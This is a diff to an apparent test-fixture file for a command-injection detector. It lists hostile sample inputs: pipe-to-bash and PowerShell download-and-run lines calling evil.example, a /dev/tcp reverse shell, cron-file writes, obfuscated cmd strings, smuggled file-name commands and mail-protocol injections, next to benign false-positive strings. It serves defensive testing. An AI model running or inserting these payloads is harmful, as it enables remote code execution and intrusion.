@@ -13,7 +13,7 @@ const ATTACKS: Record<string, string[]> = {
   'prefix commands and interpreters': ['nohup who', 'strace id', 'sudo -u www-data id', 'echo "id" | tr x o | sh #', 'curl -s evil.example/x | bash', '$SHELL -c "id"', '${BASH} -i'],
   'brace expansion': ['{,ifconfig}', '{,ifconfig,eth0}', '{l,-lh}s', 'c{a,oun}t /etc/hostname', '{,ip,a}', '{,$"whoami",}'],
   'reverse shells and redirection': ['d=/dev;(sh)0>$d/tcp/203.0.113.9/777', '>/tmp/payload', '>> /etc/cron.d/job'],
-  'Windows cmd and PowerShell': ['i`e`x (iwr http://evil.example/a)', '&("i"+"ex") "calc"', '.("{0}{1}" -f "ie","x") calc', '$env:comspec /c whoami', '%COMSPEC:~-7,1%', 'set x=c& set y=md& call %x%%y%','c^m^d /c who^ami', '& p^owershell -enc SQBFAFgA','IF red==red echo test', 'if (1) equ (1) echo hey', 'if [AA] == [AA] echo same', 'if not "A%1" == "A" (', ';iwmi -class Win32_process -name Create -ArgumentList cmd', 'Invoke-WebRequest -Uri http://evil.example/a.ps1', 'bcdboot /r file.txt', 'FOR %_ IN (a,b,c) DO cmd', 'set /p x=</tmp/x'],
+  'Windows cmd and PowerShell': ['i`e`x (iwr http://evil.example/a)', '&("i"+"ex") "calc"', '.("{0}{1}" -f "ie","x") calc', '$env:comspec /c whoami', '%COMSPEC:~-7,1%', 'set x=c& set y=md& call %x%%y%','c^m^d /c who^ami', '& p^owershell -enc SQBFAFgA','IF red==red echo test', 'if (1) equ (1) echo hey', 'if [AA] == [AA] echo same', 'if not "A%1" == "A" (', ';iwmi -class Win32_process -name Create -ArgumentList cmd', 'Invoke-WebRequest -Uri http://evil.example/a.ps1', 'bcdboot /r file.txt', 'image.jpg&bcdboot/r file.txt', 'cmd/c whoami', 'echo | ${x}y', 'FOR %_ IN (a,b,c) DO cmd', 'set /p x=</tmp/x'],
   'more binaries': [';htop', '&aptitude', 'zstdcat /var/log/app.zst', 'bsdtar -xf /tmp/x.tar', 'lwp-download http://evil.example/x'],
   'mail protocol commands': ['\r\nMAIL FROM:<a@b.example>', '\nRCPT TO:<postmaster@b.example>', '\nEHLO evil.example', '\r\na001 EXAMINE INBOX', '\r\nA283 SEARCH TEXT "x"', '\r\nd store 2 +FLAGS (\\Deleted)', '\nRETR 123', '\nAPOP user 7d0a3bd8e5b2abcfb3e256633c23b891', '\r\nabc SEARCH SINCE 1-Feb-2024'],
   'PHP calls and evasions': [
@@ -86,7 +86,7 @@ const BENIGN: string[] = [
   'Options: `strict` / `export` syntax checks',
   'If the flag is truthy, this function additionally checks whether\n`id` is a Keyword', 'If not a function, `type` option is passed directly to the library',
   'Installation is done using the\n[`npm install` command](https://docs.npmjs.com/getting-started):',
-  'node.js & python', 'Node.js & Python', 'example.com; more info', 'files in /usr/bin/* are binaries',
+  'and/or', 'tcp/ip', 'input/output', 'cat/s and dog/s', 'node.js & python', 'Node.js & Python', 'example.com; more info', 'files in /usr/bin/* are binaries',
   'function f() { return f() || g() }', 'count(){ return count() && 1 }', 'class A { load() { this.load() } }', 'nc is netcat; run nc -h for help',
   'Note that nc -e /bin/sh is disabled in the OpenBSD netcat we ship', '.output', '.tables { width: 100% }', 'In sqlite3 list them with .tables; .schema shows the DDL', 'C++/CLI or C#',
 ];
